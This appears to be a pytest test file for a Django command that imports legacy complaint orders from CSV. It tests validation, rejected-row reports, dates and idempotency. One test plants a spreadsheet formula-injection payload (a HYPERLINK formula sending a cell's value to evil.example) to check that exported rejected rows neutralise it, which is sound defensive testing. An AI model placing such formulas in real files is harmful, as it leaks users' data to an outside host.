"""Historical import: `manage.py import_orders FILE.csv --mapping MAPPING.json --as USER`."""

import csv
import json
import shutil
from datetime import datetime
from io import StringIO
from pathlib import Path

import pytest
import time_machine
from django.core.management import CommandError, call_command
from django.utils import timezone

from complaints.models import OrderSource, OrderStatus, WorkOrder
from workflow.models import OrderEvent

DATA = Path(__file__).parent / "data"
SHANGHAI = timezone.get_fixed_timezone(8 * 60)


@pytest.fixture
def export(tmp_path):
    csv_file = tmp_path / "legacy.csv"
    shutil.copy(DATA / "legacy_export.csv", csv_file)
    mapping = tmp_path / "mapping.json"
    shutil.copy(DATA / "legacy_mapping.json", mapping)
    return csv_file, mapping


def run_import(csv_file, mapping, username="cti", **options):
    out = StringIO()
    call_command("import_orders", str(csv_file), mapping=str(mapping), username=username, stdout=out, **options)
    return out.getvalue()


def rejected_rows(csv_file):
    with open(f"{csv_file}.rejected.csv", encoding="utf-8-sig") as handle:
        return {row["external_ref"]: row for row in csv.DictReader(handle)}


@time_machine.travel(datetime(2026, 11, 1, 12, 0, tzinfo=SHANGHAI), tick=False)
def test_good_rows_load_and_bad_rows_are_reported_with_reasons(export, channel_system, category_tree):
    csv_file, mapping = export
    output = run_import(csv_file, mapping, batch_size=2)

    assert "Rows read: 8; created: 3; already imported: 0; rejected: 5." in output
    loaded = {o.external_ref: o for o in WorkOrder.objects.all()}
    assert set(loaded) == {"OLD-0001", "OLD-0002", "OLD-0008"}
    assert all(o.source == OrderSource.IMPORT for o in loaded.values())

    rejected = rejected_rows(csv_file)
    assert set(rejected) == {"OLD-0003", "OLD-0004", "OLD-0005", "OLD-0006", "OLD-0007"}
    assert "customer_phone" in rejected["OLD-0003"]["reasons"]
    assert "Unknown channel “信鸽”" in rejected["OLD-0004"]["reasons"]
    assert "received_at" in rejected["OLD-0005"]["reasons"] and "昨天" in rejected["OLD-0005"]["reasons"]
    assert "Unknown category “不存在的分类”" in rejected["OLD-0006"]["reasons"]
    assert "description" in rejected["OLD-0007"]["reasons"]
    assert rejected["OLD-0003"]["line"] == "4"  # the header is line 1
    assert rejected["OLD-0003"]["手机号码"] == "12345"  # the original cells come back for correction
    # Nothing of a rejected row was half-saved.
    assert not WorkOrder.objects.filter(customer__phone="13912345679").exists()


@time_machine.travel(datetime(2026, 11, 1, 12, 0, tzinfo=SHANGHAI), tick=False)
def test_values_dates_and_closed_state_are_translated(export, channel_system, category_tree):
    csv_file, mapping = export
    run_import(csv_file, mapping)

    closed = WorkOrder.objects.get(external_ref="OLD-0001")
    assert closed.category.code == "NET-MOB-COV"
    assert closed.channel.code == "hotline"
    assert closed.customer.phone == "13800138000"
    assert closed.received_at == datetime(2026, 10, 1, 9, 15, tzinfo=SHANGHAI)
    assert closed.number == "TS20261001000001"  # numbered by the day it was received, not the import day
    assert closed.status == OrderStatus.CLOSED
    assert closed.closed_at == datetime(2026, 10, 2, 10, 0, tzinfo=SHANGHAI)
    assert closed.answer == "已优化基站"
    assert not closed.resolved_on_spot
    event = closed.events.get()
    assert event.action == OrderEvent.Action.IMPORTED and event.to_status == OrderStatus.CLOSED

    still_open = WorkOrder.objects.get(external_ref="OLD-0002")
    assert still_open.status == OrderStatus.QUEUED  # dispatched to billing
    assert still_open.channel.code == "hall"
    # Repeat detection works on history too: OLD-0008 is the same customer and category a week later.
    assert WorkOrder.objects.get(external_ref="OLD-0008").repeat_of == closed


@time_machine.travel(datetime(2026, 11, 1, 12, 0, tzinfo=SHANGHAI), tick=False)
def test_re_running_the_same_file_loads_nothing_twice(export, channel_system, category_tree):
    csv_file, mapping = export
    run_import(csv_file, mapping)
    output = run_import(csv_file, mapping)
    assert "created: 0; already imported: 3; rejected: 5." in output
    assert WorkOrder.objects.count() == 3


def test_a_mapping_that_cannot_work_stops_before_any_row(export, channel_system, category_tree, tmp_path):
    csv_file, _mapping = export
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps({"columns": {"received_at": "受理时间", "colour": "颜色"}, "date_formats": ["yyyy"]}))
    with pytest.raises(CommandError) as error:
        run_import(csv_file, bad)
    message = str(error.value)
    assert "Unknown fields in “columns”: colour" in message
    assert "no column for: external_ref" in message
    assert "date_formats" in message
    assert WorkOrder.objects.count() == 0


def test_a_column_missing_from_the_csv_stops_before_any_row(export, channel_system, category_tree, tmp_path):
    csv_file, mapping = export
    data = json.loads(mapping.read_text())
    data["columns"]["contact_phone"] = "联系电话"
    mapping.write_text(json.dumps(data, ensure_ascii=False))
    with pytest.raises(CommandError, match="no column named: 联系电话"):
        run_import(csv_file, mapping)
    assert WorkOrder.objects.count() == 0


def test_a_wrong_encoding_stops_before_any_row(export, channel_system, category_tree, tmp_path):
    csv_file, mapping = export
    gbk = tmp_path / "gbk.csv"
    gbk.write_bytes(csv_file.read_text(encoding="utf-8").encode("gb18030"))
    with pytest.raises(CommandError, match="gb18030"):
        run_import(gbk, mapping)
    assert WorkOrder.objects.count() == 0

    data = json.loads(mapping.read_text())
    data["encoding"] = "gb18030"
    mapping.write_text(json.dumps(data, ensure_ascii=False))
    with time_machine.travel(datetime(2026, 11, 1, 12, 0, tzinfo=SHANGHAI), tick=False):
        assert "created: 3" in run_import(gbk, mapping)


def test_the_import_account_needs_an_intake_role(export, billing_handler, category_tree):
    csv_file, mapping = export
    with pytest.raises(CommandError, match="allowed to log orders"):
        run_import(csv_file, mapping, username=billing_handler.username)
    with pytest.raises(CommandError, match="No active user"):
        run_import(csv_file, mapping, username="ghost")
    assert WorkOrder.objects.count() == 0


@time_machine.travel(datetime(2026, 11, 1, 12, 0, tzinfo=SHANGHAI), tick=False)
def test_a_closing_time_before_receipt_is_rejected(export, channel_system, category_tree):
    csv_file, mapping = export
    text = csv_file.read_text(encoding="utf-8").replace("2026/10/02 10:00", "2026/09/30 10:00")
    csv_file.write_text(text, encoding="utf-8")
    run_import(csv_file, mapping)
    assert "closed_at" in rejected_rows(csv_file)["OLD-0001"]["reasons"]


# --- Issue 14, item 2: a legacy row is known by (source system, reference), whoever imports it. ---


@time_machine.travel(datetime(2026, 11, 1, 12, 0, tzinfo=SHANGHAI), tick=False)
def test_a_row_is_known_by_its_source_whoever_imports_it(export, channel_system, province_dispatcher, category_tree):
    csv_file, mapping = export
    run_import(csv_file, mapping, username="cti")
    output = run_import(csv_file, mapping, username="dispatcher")
    assert "created: 0; already imported: 3; rejected: 5." in output
    assert WorkOrder.objects.count() == 3
    assert set(WorkOrder.objects.values_list("external_source", flat=True)) == {"mapping"}  # the mapping's name

    # The same references from another system are other orders.
    data = json.loads(mapping.read_text())
    data["source"] = "billing-legacy"
    other = mapping.parent / "other.json"
    other.write_text(json.dumps(data, ensure_ascii=False))
    assert "created: 3" in run_import(csv_file, other, username="dispatcher")
    assert WorkOrder.objects.filter(external_ref="OLD-0001").count() == 2


# --- Issue 14, item 3: impossible data stays out, with every reason and the line its record starts on. ---


def _copy(tmp_path, csv_name, mapping_name):
    csv_file, mapping = tmp_path / csv_name, tmp_path / mapping_name
    shutil.copy(DATA / csv_name, csv_file)
    shutil.copy(DATA / mapping_name, mapping)
    return csv_file, mapping


@time_machine.travel(datetime(2026, 11, 1, 12, 0, tzinfo=SHANGHAI), tick=False)
def test_an_fcc_export_with_split_date_and_time_and_no_phone_numbers(tmp_path, channel_system, category_tree):
    from complaints.models import Customer

    csv_file, mapping = _copy(tmp_path, "fcc_comcast_export.csv", "fcc_comcast_mapping.json")
    output = run_import(csv_file, mapping)
    assert "Rows read: 7; created: 4; already imported: 0; rejected: 3." in output

    orders = {o.external_ref: o for o in WorkOrder.objects.select_related("category", "customer")}
    assert set(orders) == {"250635", "242732", "307175", "361148"}
    speeds = orders["250635"]
    assert speeds.received_at == datetime(2015, 4, 22, 15, 53, 50, tzinfo=SHANGHAI)  # Date + Time, day first
    assert speeds.description.startswith("Comcast Cable Internet Speeds\nI have been contacting")
    assert "Each technician says the line is fine." in speeds.description
    assert speeds.channel.code == "hotline" and speeds.external_source == "fcc-comcast"
    assert speeds.status == OrderStatus.CLOSED and speeds.closed_at == datetime(2015, 6, 30, 23, 59, tzinfo=SHANGHAI)
    # Categories of any level: history keeps the level it had.
    assert (speeds.category.code, speeds.category.level) == ("NET-MOB", 2)
    assert (orders["242732"].category.code, orders["242732"].category.level) == ("NET", 1)
    assert orders["307175"].category.code == "BIL-DSP"
    # No phone numbers: one placeholder customer, marked as such, nobody's repeat complainant.
    assert {o.customer_id for o in orders.values()} == {Customer.objects.get(is_placeholder=True).pk}
    assert not WorkOrder.objects.filter(repeat_of__isnull=False).exists()

    rejected = rejected_rows(csv_file)
    assert {ref: row["line"] for ref, row in rejected.items()} == {"223441": "5", "2779A6": "8", "338519": "11"}
    # 04-08-15 is the 4th of August: outside the export's quarter (a month/day swap is never loaded as a date).
    assert "2015-08-04 lies outside the export's period 2015-04-01 to 2015-06-30" in rejected["223441"]["reasons"]
    # Every reason of a row, not the first one only.
    assert "does not match the pattern [0-9]{6}" in rejected["2779A6"]["reasons"]
    assert "Unknown category “Comcast Imposed a New Usage Cap" in rejected["2779A6"]["reasons"]
    assert "“06/30/15 3:16:26 PM” matches none of the date formats" in rejected["338519"]["reasons"]

    # The KPI rollups take history filed under a category of any level.
    from quality.facts import rollups_apply
    from quality.models import OrderFact

    rollups_apply()
    assert OrderFact.objects.filter(order_id__in=[o.pk for o in orders.values()]).count() == 4


@time_machine.travel(datetime(2026, 11, 1, 12, 0, tzinfo=SHANGHAI), tick=False)
def test_a_cfpb_export_reads_dates_by_the_mapping_s_format_only(tmp_path, channel_system, category_tree):
    csv_file, mapping = _copy(tmp_path, "cfpb_export.csv", "cfpb_mapping.json")
    output = run_import(csv_file, mapping)
    assert "Rows read: 4; created: 2; already imported: 0; rejected: 2." in output
    card = WorkOrder.objects.get(external_ref="1290516")
    assert card.received_at == datetime(2015, 4, 5, tzinfo=SHANGHAI)  # MM/DD/YYYY as the mapping says
    assert card.status != OrderStatus.CLOSED  # no closing time: it enters the workflow
    assert card.customer.is_placeholder and card.contact_phone == ""
    debt = WorkOrder.objects.get(external_ref="1324877")
    assert (debt.category.code, debt.category.level) == ("BIL", 1)
    assert debt.repeat_of is None  # the placeholder customer is nobody's repeat complainant
    rejected = rejected_rows(csv_file)
    assert rejected["1325005"]["line"] == "5"
    assert "“13/04/2015” matches none of the date formats (%m/%d/%Y)" in rejected["1325005"]["reasons"]
    assert rejected["CFPB-88"]["line"] == "6"  # a narrative over four lines: the line its record starts on
    assert "does not match the pattern" in rejected["CFPB-88"]["reasons"]


@time_machine.travel(datetime(2026, 11, 1, 12, 0, tzinfo=SHANGHAI), tick=False)
def test_two_date_formats_that_read_a_cell_differently_reject_it(tmp_path, channel_system, category_tree):
    csv_file, mapping = _copy(tmp_path, "cfpb_export.csv", "cfpb_mapping.json")
    data = json.loads(mapping.read_text())
    del data["date_format"]
    data["date_formats"] = ["%m/%d/%Y", "%d/%m/%Y"]
    mapping.write_text(json.dumps(data))
    run_import(csv_file, mapping)
    rejected = rejected_rows(csv_file)
    assert "“04/05/2015” is ambiguous: it reads as 2015-04-05 00:00 (%m/%d/%Y); 2015-05-04 00:00 (%d/%m/%Y)" in \
        rejected["1290516"]["reasons"]
    # A cell only one format reads is taken.
    assert WorkOrder.objects.get(external_ref="1325005").received_at == datetime(2015, 4, 13, tzinfo=SHANGHAI)


@time_machine.travel(datetime(2026, 11, 1, 12, 0, tzinfo=SHANGHAI), tick=False)
def test_the_readme_example_maps_to_a_level_3_category(export, channel_system, category_tree):
    from tests.factories import CategoryFactory

    CategoryFactory(code="NET-MOB-COV-01", name="室内弱信号", parent=category_tree["NET-MOB-COV"])  # no longer a leaf
    csv_file, mapping = export
    run_import(csv_file, mapping)
    closed = WorkOrder.objects.get(external_ref="OLD-0001")
    assert closed.category.code == "NET-MOB-COV" and closed.category.level == 3
    assert WorkOrder.objects.get(external_ref="OLD-0008").category.code == "NET-MOB-COV"  # open, in the workflow


@time_machine.travel(datetime(2026, 11, 1, 12, 0, tzinfo=SHANGHAI), tick=False)
def test_a_rejected_row_lists_all_its_reasons(export, channel_system, category_tree):
    csv_file, mapping = export
    text = csv_file.read_text(encoding="utf-8").replace(
        "OLD-0007,2026/10/07 11:00,13912345672,周九,10086热线,", "OLD-0007,2026/10/07 11:00,123,周九,信鸽,")
    csv_file.write_text(text, encoding="utf-8")
    run_import(csv_file, mapping)
    reasons = rejected_rows(csv_file)["OLD-0007"]["reasons"]
    assert "customer_phone" in reasons and "Unknown channel “信鸽”" in reasons and "description" in reasons


def test_a_mapping_with_bad_new_keys_stops_before_any_row(export, channel_system, category_tree):
    csv_file, mapping = export
    data = json.loads(mapping.read_text())
    data.update(received_between=["2015-06-30", "2015-04-01"], external_ref_pattern="OLD-(", date_fromat="%d")
    mapping.write_text(json.dumps(data, ensure_ascii=False))
    with pytest.raises(CommandError) as error:
        run_import(csv_file, mapping)
    message = str(error.value)
    assert "Unknown keys in the mapping: date_fromat" in message
    assert "received_between" in message and "external_ref_pattern" in message
    assert WorkOrder.objects.count() == 0


# --- Closed rows are written in bulk to the state the intake service gives a closed import. ---


CLOSED_ROWS = """工单号,受理时间,手机号码,客户姓名,来源渠道,投诉分类,工单类型,投诉内容,处理结果,归档时间
B-1,2026/10/01 09:00,13800138000,张三,10086热线,旧网络-覆盖,投诉,没有信号,已优化,2026/10/02 10:00
B-2,2026/10/05 09:00,13800138000,张三,10086热线,旧网络-覆盖,投诉,又没有信号,已优化,2026/10/06 10:00
B-3,2026/10/03 09:00,13800138001,李四,营业厅,BIL-DSP,咨询,话费怎么算,已解答,2026/10/03 09:30
"""


@pytest.mark.parametrize("batch_size", [1, 500])
@time_machine.travel(datetime(2026, 11, 1, 12, 0, tzinfo=SHANGHAI), tick=False)
def test_closed_rows_in_bulk_end_as_the_intake_service_leaves_them(export, channel_system, category_tree, batch_size):
    from accountability.models import AccountabilityEvent, Determination
    from quality.models import FactQueue

    csv_file, mapping = export
    csv_file.write_text(CLOSED_ROWS, encoding="utf-8")
    assert "created: 3" in run_import(csv_file, mapping, batch_size=batch_size)
    first, second, inquiry = (WorkOrder.objects.get(external_ref=ref) for ref in ("B-1", "B-2", "B-3"))
    assert [first.number, inquiry.number, second.number] == ["TS20261001000001", "ZX20261003000001",
                                                             "TS20261005000001"]
    assert second.repeat_of == first and first.repeat_of is None  # in one batch or across batches
    assert first.region == channel_system.region and first.first_responder == channel_system
    assert first.customer.name == "张三" and first.contact_phone == "13800138000"
    assert [(e.action, e.to_status, e.comment) for e in second.events.order_by("id")] == [
        ("imported", "closed", "已优化"), ("linked_repeat", "", "")]
    assert second.events.get(action="linked_repeat").data == {"repeat_of": first.number}
    determination = Determination.objects.get(order=first)
    assert determination.status == "final" and determination.month.isoformat() == "2026-10-01"
    assert [s.department.code for s in determination.shares.all()] == ["network"]
    assert AccountabilityEvent.objects.get(determination=determination).action == "proposed"
    assert not Determination.objects.filter(order=inquiry).exists()  # only complaints are attributed
    assert set(FactQueue.objects.values_list("order_id", flat=True)) == {first.pk, second.pk, inquiry.pk}


@time_machine.travel(datetime(2026, 11, 1, 12, 0, tzinfo=SHANGHAI), tick=False)
def test_the_rejected_rows_run_no_formula_and_load_back_as_written(export, channel_system, category_tree, tmp_path):
    csv_file, mapping = export
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
    text = csv_file.read_text(encoding="utf-8").replace("信鸽,BIL-DSP,投诉,未知渠道", f'信鸽,BIL-DSP,投诉,"{formula.replace(chr(34), chr(34) * 2)}"')
    csv_file.write_text(text, encoding="utf-8")
    run_import(csv_file, mapping)

    rejected = rejected_rows(csv_file)["OLD-0004"]
    assert rejected["投诉内容"] == "'" + formula  # a spreadsheet shows it as text (OWASP), never runs it
    # The operator corrects the channel in the report and loads it again: the complaint reads as it was written.
    corrected = tmp_path / "corrected.csv"
    corrected.write_text(Path(f"{csv_file}.rejected.csv").read_text(encoding="utf-8-sig").replace(",信鸽,", ",10086热线,"),
                         encoding="utf-8")
    run_import(corrected, mapping)
    assert WorkOrder.objects.get(external_ref="OLD-0004").description == formula


@time_machine.travel(datetime(2026, 11, 1, 12, 0, tzinfo=SHANGHAI), tick=False)
def test_history_never_rewrites_a_known_customers_record(export, channel_system, category_tree):
    """The customer's record is newer than any legacy row: the import creates customers it does not know and
    gives a name to a record without one, but a known name, tier or home region stays as it is."""
    from complaints.models import Customer
    from tests.factories import CustomerFactory

    known = CustomerFactory(phone="13800138000", name="张三丰", tier="gold")
    nameless = CustomerFactory(phone="13800138001", name="", tier="ordinary")
    before = Customer.objects.values("name", "tier", "brand", "home_region_id").get(pk=known.pk)
    csv_file, mapping = export
    csv_file.write_text(CLOSED_ROWS, encoding="utf-8")
    assert "created: 3" in run_import(csv_file, mapping, batch_size=500)
    assert Customer.objects.values("name", "tier", "brand", "home_region_id").get(pk=known.pk) == before
    nameless.refresh_from_db()
    assert nameless.name == "李四" and nameless.tier == "ordinary"
